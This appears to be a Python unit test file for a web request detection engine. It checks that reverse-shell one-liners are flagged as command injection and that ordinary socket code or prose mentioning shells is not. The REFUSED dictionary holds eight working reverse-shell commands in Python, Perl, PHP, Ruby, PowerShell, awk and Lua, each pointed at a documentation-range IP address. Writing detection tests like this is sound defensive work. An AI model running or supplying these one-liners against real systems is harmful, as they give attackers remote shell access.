"""Unit: reverse and bind shells written as code in any language — a connection and a shell put on it, close
together — are refused in every value; either half alone (code that opens a socket, prose naming a shell) passes.
Values are our own; none comes from a corpus."""

from __future__ import annotations

import time

import pytest

from bastion.detection import Context, Engine
from bastion.detection.reverse_shell import reverse_shell

BODY = Context("body", "comment")
QUERY = Context("query", "q")
HEADER = Context("header", "x-note")
ENGINE = Engine()

REFUSED = {
    "python_dup2_pty": (
        'python3 -c \'import socket,os,pty;k=socket.socket();k.connect(("198.51.100.9",7001));'
        '[os.dup2(k.fileno(),d) for d in (0,1,2)];pty.spawn("bash")\'',
        BODY,
    ),
    "python_subprocess_after_sleep": (
        "sleep 2; python -c 'import socket,subprocess,os;c=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
        'c.connect(("203.0.113.4",9443));os.dup2(c.fileno(),0);subprocess.call(["/bin/bash","-i"])\'',
        QUERY,
    ),
    "perl_socket_stdin": (
        'perl -e \'use Socket;socket(K,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
        'connect(K,sockaddr_in(7002,inet_aton("198.51.100.9")));open(STDIN,">&K");exec("/bin/sh -i");\'',
        BODY,
    ),
    "php_fsockopen": ('php -r \'$q=fsockopen("203.0.113.4",7003);exec("/bin/sh -i <&3 >&3 2>&3");\'', HEADER),
    "ruby_tcpsocket_spawn": (
        'ruby -rsocket -e\'spawn("sh",[:in,:out,:err]=>TCPSocket.new("198.51.100.9",7004))\'',
        QUERY,
    ),
    "powershell_tcpclient_iex": (
        "powershell -nop -c \"$t=New-Object Net.Sockets.TCPClient('203.0.113.4',7005);$s=$t.GetStream();"
        'while(($n=$s.Read($b,0,$b.Length)) -ne 0){$o=(iex ([text.encoding]::ASCII.GetString($b,0,$n)) 2>&1)}"',
        BODY,
    ),
    "awk_inet_tcp": (
        'awk \'BEGIN{k="/inet/tcp/0/198.51.100.9/7006";while(1){k|&getline c;if(c){while((c|&getline)>0)'
        "print $0|&k;close(c)}}}' /dev/null",
        QUERY,
    ),
    "lua_socket_popen": (
        "lua -e \"local k=require('socket').tcp();k:connect('203.0.113.4','7007');while true do "
        "local r=k:receive();local f=io.popen(r,'r');k:send(f:read('*a'));end\"",
        BODY,
    ),
}


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_reverse_shell_one_liner_is_refused(name: str) -> None:
    value, ctx = REFUSED[name]
    assert reverse_shell(value) is not None, name
    found = ENGINE.inspect(value, ctx)
    assert found is not None and found.rule.attack == "cmdi", (name, found)


BENIGN = [
    "The websocket closed after 30 s; reconnecting with backoff fixed it.",
    "Run the installer in /bin/sh, not in zsh, and check the socket path in the config.",
    "sock = socket.create_connection((host, 443)); sock.sendall(payload)",
    "We use Socket.IO for chat and a bash script for deploys.",
    "os.dup2 is how a daemon points stdout at its log file; see the Python docs.",
    'import socket\ns = socket.socket()\ns.connect(("api.example.com", 443))\nprint(s.recv(1024))',
]


@pytest.mark.parametrize("value", BENIGN)
def test_socket_code_or_shell_prose_alone_passes(value: str) -> None:
    assert reverse_shell(value) is None, value
    assert ENGINE.inspect(value, BODY) is None, value


def test_halves_far_apart_do_not_pair() -> None:
    value = "socket.connect(addr) " + "lorem ipsum " * 60 + 'subprocess.run(["bash"])'
    assert reverse_shell(value) is None


def test_many_halves_take_linear_time() -> None:
    unit = "socket " + "x" * 400 + ' "sh" '
    timings = []
    for size in (16 * 1024, 128 * 1024):
        value = (unit * (size // len(unit) + 1))[:size]
        start = time.process_time()
        reverse_shell(value)
        timings.append(time.process_time() - start)
    assert timings[1] < 0.5
